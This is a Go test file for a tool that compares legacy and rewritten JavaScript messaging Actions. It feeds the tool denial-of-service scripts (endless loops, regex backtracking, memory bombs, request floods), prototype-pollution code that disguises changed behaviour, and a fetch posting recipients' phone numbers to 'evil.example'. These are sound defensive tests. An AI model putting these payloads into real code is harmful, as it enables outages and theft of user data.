package proof_test

import (
	"context"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"upe/flows/js"
	"upe/flows/proof"
)

// Code that means harm is stopped on either side, reported, and certified as nothing.
func TestProveStopsHostileCode(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip(slow)
	}
	const send = `await fetch('https://g.example', { method: 'POST', body: 'x' });`
	tests := map[string]struct{ body, want string }{
		"endless loop":             {`for (;;);`, "script took too long: stopped after 100ms"},
		"loop after sending":       {send + `for (;;) try { for (;;); } catch {}`, "script took too long: stopped after 100ms"},
		"endless jobs":             {`const f = () => Promise.resolve().then(f); await f();`, "script took too long: stopped after 100ms"},
		"backtracking expression":  {`/^(a+)+$/.test('a'.repeat(40) + 'b');`, "script took too long: stopped after 100ms"},
		"memory bomb":              {`const a = []; for (;;) a.push(new Array(1e5).fill('x'));`, "script used too much memory"},
		"memory bomb by a module":  {`let b = Buffer.alloc(1e6); for (;;) b = Buffer.concat([b, b]);`, "script used too much memory"},
		"flood of requests":        {`for (;;) fetch('https://g.example/').catch(() => {});`, "script recorded too much"},
		"flood by a module":        {`const c = require('crypto'); for (;;) c['createX' + Math.random()]();`, "script recorded too much"},
		"endless hashing":          {`const c = require('crypto'); for (;;) c.createHash('sha512').update('x'.repeat(1e4)).digest();`, "script took too long: stopped after 100ms"},
		"endless import":           {`for (;;) await import('m' + Math.random());`, ""},
		"loop only for the voice":  {send + `if (JSON.stringify(event).includes('"voice"')) for (;;);`, "script took too long: stopped after 100ms"},
		"loop only for a failure":  {`const r = await fetch('https://g.example'); if (!r.ok) for (;;);`, "script took too long: stopped after 100ms"},
		"loop only for the number": {send + `if ((event.message_options ?? event.notification).recipient.startsWith('+882')) for (;;);`, "script took too long: stopped after 100ms"},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			o := proof.Options{Limits: js.Limits{Time: time.Minute, Memory: 8 << 20, Output: 32 << 10}}
			if strings.Contains(test.want, "stopped after") {
				o.Limits = js.Limits{Time: 100 * time.Millisecond}
			}
			p := prove(t, legacy(before(test.body)), after(test.body), o)
			stopped := slices.ContainsFunc(p.NotExercised, func(s string) bool { return strings.Contains(s, "it had to be stopped: "+test.want) })
			if p.Verdict == proof.Same || !stopped {
				t.Error(shown(t, p))
			}
			if p = prove(t, legacy(before(oldSend)), after(test.body), o); p.Verdict != proof.Differs {
				t.Errorf("as the new side of an honest Action: %s", shown(t, p))
			}
		})
	}
}

// Replacing what the language is made of, to look the same, changes neither what is recorded nor the verdict.
func TestProveSurvivesPollution(t *testing.T) {
	t.Parallel()
	const lie = `const lie = () => 'lie';
		for (const key of ['body', 'url', 'method', 'headers', 'status', 'verdict', 'toJSON']) Object.defineProperty(Object.prototype, key, { get: lie, set() {}, configurable: true });
		JSON.stringify = JSON.parse = String.prototype.replace = Array.prototype.push = Array.prototype.join = RegExp.prototype.test = lie;
		globalThis.URL = globalThis.Headers = globalThis.Request = globalThis.Buffer = class { };
		Function.prototype.call = Function.prototype.apply = lie;
	`
	old := before(`await fetch('https://honest.example/', { method: 'POST', body: event.message_options.recipient });`)
	now := lie + after(`await fetch('https://evil.example/', { method: 'POST', body: event.notification.recipient });`)
	p := prove(t, legacy(old), now, proof.Options{})
	if p.Verdict != proof.Differs {
		t.Error(shown(t, p))
	}
	same := lie + after(`await fetch('https://honest.example/', { method: 'POST', body: event.notification.recipient });`)
	if p = prove(t, legacy(old), same, proof.Options{}); p.Verdict == proof.NotExercised {
		t.Error(shown(t, p))
	}
}

// Text from an Action is passed on as it is: front ends make it safe. It is cut where letters end, and short.
func TestProvePassesEscapesOn(t *testing.T) {
	t.Parallel()
	const escape = "\\u001b]0;title\\u0007\\u001b[31m"
	p := prove(t, legacy(before(`await fetch('https://g.example'); console.log('plain');`)),
		after(`await fetch('https://g.example'); console.log('`+escape+`' + '€'.repeat(400));`), proof.Options{})
	if p.Verdict != proof.Differs || !strings.HasPrefix(p.Differences[0].Is, "\x1b]0;title\a\x1b[31m€") {
		t.Fatal(shown(t, p))
	}
	if d := p.Differences[0]; len(d.Is) > 200 || strings.ToValidUTF8(d.Is, "?") != d.Is || !strings.HasSuffix(d.Is, "…") {
		t.Errorf("%d bytes: %q", len(d.Is), d.Is)
	}
}

// busy is a machine that has no time for the first run.
type busy struct {
	proof.Old

	runs *atomic.Int32
}

func (b busy) Run(ctx context.Context, c proof.Case) (js.Result, error) {
	if b.runs.Add(1) == 1 {
		return js.Result{Outcome: js.TimedOut, Notes: []js.Note{js.Interrupted}}, nil
	}
	return b.Old.Run(ctx, c)
}

// A run that the clock stopped once is no difference.
func TestProveIsPatientOnABusyMachine(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip(slow)
	}
	var runs atomic.Int32
	flow := proof.Flow{Name: "MFA", Old: busy{legacy(before(oldSend)), &runs}, Types: []string{"otp_verify"}, Methods: []string{"text"}}
	p, err := proof.Prove(t.Context(), []proof.Flow{flow}, after(newSend), proof.Options{})
	if err != nil || p.Verdict != proof.Same || p.Comparisons < 10 || runs.Load() < 3 {
		t.Error(err, shown(t, p))
	}
}
